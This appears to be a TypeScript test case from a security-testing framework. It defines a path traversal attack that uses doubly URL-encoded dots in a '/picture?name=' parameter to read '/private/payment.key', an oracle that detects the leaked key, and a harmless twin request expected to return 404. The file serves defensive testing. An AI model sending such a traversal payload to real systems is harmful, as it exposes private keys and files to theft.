import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'

/** Walks out with doubly encoded dots, past a check for the plain ones. */
export const pathPictureDouble: Attack = defineAttack({
  id: 'path-picture-double',
  class: 'path-traversal',
  title: 'Walks out with doubly encoded dots, past a check for the plain ones',
  cwe: 22,
  capec: 120,
  technique: 'T1005',
  preconditions: [],

  steps: ({ visitor }) => visitor.get('/picture?name=%252e%252e%252fprivate%252fpayment.key'),
  oracle: (answer, { witness }) => answer.text.includes(witness.loot.fileKey),
  twin: ({ visitor }) => visitor.get('/picture?name=holiday%2520photo.png'),
  // There is no such picture; what counts is that the application may say so.
  twinServed: (answer) => answer.status === 404,
})
